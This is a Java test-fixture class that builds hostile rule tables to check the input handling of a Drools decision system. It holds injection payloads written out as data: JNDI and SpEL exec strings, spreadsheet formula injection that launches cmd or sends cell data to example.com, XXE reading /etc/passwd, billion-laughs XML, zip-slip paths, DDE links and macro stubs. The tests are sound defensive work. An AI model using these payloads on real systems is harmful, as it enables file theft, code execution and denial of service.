package travel.opslayer.decision.drools;

import static java.nio.charset.StandardCharsets.UTF_8;
import static travel.opslayer.decision.drools.Office.file;
import static travel.opslayer.decision.drools.Workbooks.PERMIT;
import static travel.opslayer.decision.drools.Workbooks.changed;
import static travel.opslayer.decision.drools.Workbooks.permit;
import static travel.opslayer.decision.drools.Workbooks.with;
import static travel.opslayer.decision.drools.Workbooks.zip;

import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import travel.opslayer.decision.RuleFile;

/** Tables that would run code, read other files, or take all time or memory. */
final class HostileTables {

  private static final String CSV = "20-authorise/permit.csv";
  private static final String TITLES = "Action,Role,Lead state,Own lead,When told\n";
  private static final String SHEET = "xl/worksheets/sheet1.xml";
  private static final String STRINGS = "xl/sharedStrings.xml";
  private static final String ENTITY = "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>";
  private static final String LAUGHS =
      IntStream.range(1, 12)
          .mapToObj(i -> "<!ENTITY e%d \"%s\">".formatted(i, ("&e" + (i - 1) + ";").repeat(10)))
          .collect(Collectors.joining("", "<!DOCTYPE x [<!ENTITY e0 \"ha\">", "]>"));

  private HostileTables() {}

  static Map<String, RuleFile> all() {
    var all = new TreeMap<String, RuleFile>();
    code(all);
    commands(all);
    largeTexts(all);
    all.putAll(HostileSchemas.all());
    workbooks(all);
    all.putAll(HostileWorkbooks.all());
    names(all);
    return all;
  }

  private static void code(Map<String, RuleFile> all) {
    var words =
        new String[] {
          "ask_price\"); System.setProperty(\"opslayer.hostile\", \"x\"); //",
          "ask_price\\u0022); System.setProperty(\\u0022opslayer.hostile\\u0022, \\u0022x\\u0022);",
          "ask_price\\\"); exit(); //",
          "ask_price */ rule \"x\" when then end /*",
          "@{System.setProperty('opslayer.hostile','x')}",
          "$param",
          "${jndi:ldap://example.com/x}",
          "#{T(java.lang.Runtime).getRuntime().exec('x')}",
          "ask_price\nend\nrule \"x\" when then decision.permit(\"ask_price\"); end",
          "ask_price\u2028end",
          "ask_\u202eecirp",
          "ask_price\u0000",
          "a\u0455k_price"
        };
    for (var i = 0; i < words.length; i++) {
      var cell = "\"" + words[i].replace("\"", "\"\"") + "\"";
      all.put("csv code %02d".formatted(i), file(CSV, TITLES + cell + ",customer,,,\n"));
      all.put(
          "csv code in a role %02d".formatted(i), file(CSV, TITLES + "ask_price," + cell + "\n"));
    }
    all.put(
        "csv code as an owner",
        file("40-actions/assign.csv", "Language,Product,Owner\n,,\"\"\"+System.exit(1)+\"\"\"\n"));
    all.put(
        "csv code as a name",
        file(
            "20-authorise/require.csv",
            "Rule,Action,People,Product known,Needs\n"
                + "\"x\"\" @Foo(System.exit(1)) \"\"\",ask_price,3,,deposit\n"));
  }

  private static void commands(Map<String, RuleFile> all) {
    var cells =
        new String[] {
          "=cmd|' /C calc'!A0",
          "+cmd|' /C calc'!A0",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "=HYPERLINK(\"\"http://example.com/?\"\"&A1)",
          "=IMPORTXML(\"\"http://example.com\"\", \"\"//a\"\")",
          "=1+1"
        };
    for (var i = 0; i < cells.length; i++) {
      all.put(
          "csv command in a note %02d".formatted(i),
          file(CSV, TITLES + "ask_price,customer,,,\"" + cells[i] + "\"\n"));
    }
  }

  private static void largeTexts(Map<String, RuleFile> all) {
    all.put("csv of quotes", file(CSV, "\"".repeat(1 << 20)));
    all.put("csv of commas", file(CSV, TITLES + ",".repeat(1_000_000)));
    all.put("csv of blank lines", file(CSV, TITLES + "\n".repeat(1_000_000) + "x"));
    all.put("csv of one cell", file(CSV, TITLES + "x".repeat(1_000_000) + ",customer\n"));
    all.put("csv of one title", file(CSV, "x".repeat(1_000_000) + "\nx\n"));
    all.put("csv of titles", file(CSV, "Action,".repeat(149_000) + "\nx\n"));
    all.put("csv of rows", file(CSV, TITLES + "ask_price,customer\n".repeat(50_000)));
    all.put("csv of wrong words", file(CSV, TITLES + "a,b,c,d,e\n".repeat(4_990)));
    all.put(
        "csv of a list", file(CSV, TITLES + "ask_price,\"" + "sales,".repeat(150_000) + "\"\n"));
    all.put("csv of nots", file(CSV, TITLES + "ask_price," + "not ".repeat(200_000) + "x\n"));
    var numbers = IntStream.range(0, 140_000).mapToObj(String::valueOf);
    all.put("csv of numbers", people(numbers.collect(Collectors.joining(","))));
    all.put("csv of dashes", people("1-".repeat(900)));
    all.put("csv of ranges", people("from ".repeat(390)));
    all.put("csv of blanks", people("1" + " ".repeat(1_900) + "x"));
    all.put("csv of many ranges", many("from 1 to ".repeat(29)));
    all.put("csv of many lists", many("1, ".repeat(95) + "x"));
    all.put("csv of many dashes", many("1 - ".repeat(70)));
    all.put("csv of an endless number", people("9".repeat(1_900)));
  }

  private static RuleFile many(String cell) {
    var row = "A,ask_price,\"" + cell + "\",,deposit\n";
    return file(
        "20-authorise/require.csv", "Rule,Action,People,Product known,Needs\n" + row.repeat(2_900));
  }

  private static RuleFile people(String cell) {
    return file(
        "20-authorise/require.csv",
        "Rule,Action,People,Product known,Needs\nA,ask_price,\"" + cell + "\",,deposit\n");
  }

  private static void workbooks(Map<String, RuleFile> all) {
    var good = permit(it -> {});
    for (var part :
        new String[] {
          SHEET,
          STRINGS,
          "xl/workbook.xml",
          "xl/styles.xml",
          "[Content_Types].xml",
          "_rels/.rels",
          "xl/_rels/workbook.xml.rels"
        }) {
      all.put("xlsx that reads a file " + part, changed(good, part, it -> after(it, ENTITY)));
      all.put("xlsx that laughs " + part, changed(good, part, it -> after(it, LAUGHS)));
      all.put("xlsx without " + part, changed(good, part, it -> "<x/>"));
    }
    all.put(
        "xlsx of a row that is nowhere",
        changed(good, SHEET, it -> it.replace("r=\"2\"", "r=\"2147483647\"")));
    all.put(
        "xlsx of a cell that is nowhere",
        changed(good, SHEET, it -> it.replace("r=\"B2\"", "r=\"ZZZZZZ99\"")));
    all.put(
        "xlsx of a text that is nowhere",
        changed(good, SHEET, it -> it.replace("<v>5</v>", "<v>99999999</v>")));
    all.put("xlsx of a style that is nowhere", changed(good, SHEET, HostileTables::styled));
    all.put("xlsx out of its folder", new RuleFile(PERMIT, zip("../../evil.csv", "x", "/x", "y")));
  }

  /** Parts that nobody reads or runs. */
  static Map<String, RuleFile> harmless() {
    var all = new TreeMap<String, RuleFile>();
    var good = permit(it -> {});
    for (var part : new String[] {"docProps/core.xml", "docProps/app.xml"}) {
      all.put("reads a file " + part, changed(good, part, it -> after(it, ENTITY)));
      all.put("laughs " + part, changed(good, part, it -> after(it, LAUGHS)));
      all.put("is broken " + part, changed(good, part, it -> "<x/>"));
    }
    all.put(
        "macros without their kind",
        with(
            changed(
                good,
                "[Content_Types].xml",
                it ->
                    it.replace(
                        "</Types>",
                        "<Default Extension=\"bin\""
                            + " ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>")),
            "xl/vbaProject.bin",
            "Sub Auto_Open()"));
    all.put(
        "a link outwards",
        with(
            good,
            "xl/externalLinks/externalLink1.xml",
            "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>"));
    return all;
  }

  private static String styled(String sheet) {
    return sheet.replace("<c r=\"B2\"", "<c s=\"4000000\" r=\"B2\"");
  }

  private static String after(String xml, String doctype) {
    var end = xml.indexOf("?>");
    return end < 0 ? doctype + xml : xml.substring(0, end + 2) + doctype + xml.substring(end + 2);
  }

  private static void names(Map<String, RuleFile> all) {
    var table = TITLES + "ask_price,customer,,,\n";
    for (var name :
        new String[] {
          "20-authorise/permit\").csv",
          "20-authorise/permit\\u0022.csv",
          "20-authorise/permit\n.csv",
          "20-authorise/permit\u202evsc.csv",
          "20-authorise/permit${x}.csv",
          "../permit.csv",
          "/20-authorise/permit.csv",
          "20-authorise/../20-authorise/permit.csv",
          "permit",
          "20-authorise/" + "x".repeat(300) + ".csv"
        }) {
      all.put("name " + name.replaceAll("\\W", "_"), new RuleFile(name, table.getBytes(UTF_8)));
    }
  }
}
